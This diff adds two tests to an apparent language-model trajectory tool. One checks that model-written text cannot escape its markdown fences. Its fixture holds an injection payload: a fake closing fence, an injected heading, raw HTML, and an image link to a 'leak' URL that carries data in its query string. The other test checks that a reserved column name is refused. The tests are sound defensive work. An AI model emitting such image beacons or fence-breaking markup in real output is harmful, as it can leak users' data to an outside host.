@@ -424,3 +424,44 @@ def test_trajectory_markdown_shows_code_and_outputs(make_lm: MakeLM) -> None:
     md = result.trajectory_markdown()
     assert "### Turn 1" in md and "SELECT 41 + 1" in md and "42" in md
     assert json.dumps(md)  # plain text, serialisable as metadata
+
+
+def test_model_text_cannot_break_out_of_its_markdown_block(make_lm: MakeLM) -> None:
+    """Prose, code and output are fenced so that nothing the model writes renders as page
+    structure: a closing fence, a heading, an image or raw HTML stays text."""
+    hostile = "```\n# Injected heading\n![x](http://127.0.0.1/leak?d=rows)\n<img src=x>\n````"
+    script = [
+        hostile + "\n```repl\nprint('````\\n## also injected')\n```",
+        "```repl\nFINAL('done')\n```",
+    ]
+    with FakeAnthropic(root=script) as fake:
+        result = run_rlm("q", warehouse=small_warehouse(), lm=make_lm(fake), sandbox="process")
+    markdown = result.trajectory_markdown()
+    outside: list[str] = []
+    fence: str | None = None
+    for line in markdown.splitlines():
+        stripped = line.lstrip("> ")
+        opener = re.match(r"^(`{3,})", stripped)
+        if fence is None and opener:
+            fence = opener.group(1)
+        elif (
+            fence is not None and stripped.startswith(fence) and not stripped[len(fence) :].strip()
+        ):
+            fence = None
+        elif fence is None:
+            outside.append(stripped)
+    assert not any(
+        (line.startswith("#") and "Turn" not in line) or "![" in line or "<img" in line
+        for line in outside
+    ), outside
+
+
+def test_a_worker_made_partition_column_is_refused(make_lm: MakeLM) -> None:
+    script = [
+        "```repl\nimport pandas as pd\nFINAL(pd.DataFrame({'_partition': ['x'], 'n': [1]}))\n```",
+        "```repl\nimport pandas as pd\nFINAL(pd.DataFrame({'n': [1]}))\n```",
+    ]
+    with FakeAnthropic(root=script) as fake:
+        result = run_rlm("q", warehouse=small_warehouse(), lm=make_lm(fake), sandbox="process")
+    assert "reserved" in (result.turns[0].cells[0].error or "")
+    assert result.answer.table is not None and result.answer.table.column_names == ["n"]
